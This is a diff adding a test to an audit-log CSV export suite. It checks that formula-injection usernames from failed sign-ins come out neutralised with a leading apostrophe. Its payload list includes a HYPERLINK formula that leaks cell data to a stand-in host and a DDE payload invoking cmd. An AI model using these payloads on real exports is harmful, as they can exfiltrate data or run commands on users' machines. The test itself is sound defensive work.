@@ -193,3 +193,25 @@ def test_invalid_filters_give_400_with_field_errors(auditor, params, field):
     assert list(response.context["form"].errors) == [field]
     assert response.context["page"] is None
     assert auditor.get(reverse("reports:audit_export_csv"), params).status_code == 400
+
+
+FORMULA_USERNAMES = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+1+cmd",
+    "-1+cmd",
+    "\t=1+1",
+]
+
+
+def test_formula_usernames_from_failed_sign_ins_export_as_text(client, director):
+    for username in FORMULA_USERNAMES:
+        client.post(reverse("accounts:login"), {"username": username, "password": "wrong pw"})
+    response = verified_client(director).get(
+        reverse("reports:audit_export_csv"), {"action": "login_failed"}
+    )
+    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
+    names = {dict(zip(rows[0], row, strict=True))["actor_username"] for row in rows[1:]}
+    # The sign-in form strips surrounding whitespace, so "\t=1+1" arrives as "=1+1".
+    assert names >= {"'" + name.strip() for name in FORMULA_USERNAMES}
+    assert not any(name.startswith(("=", "+", "-", "@", "\t")) for name in names)
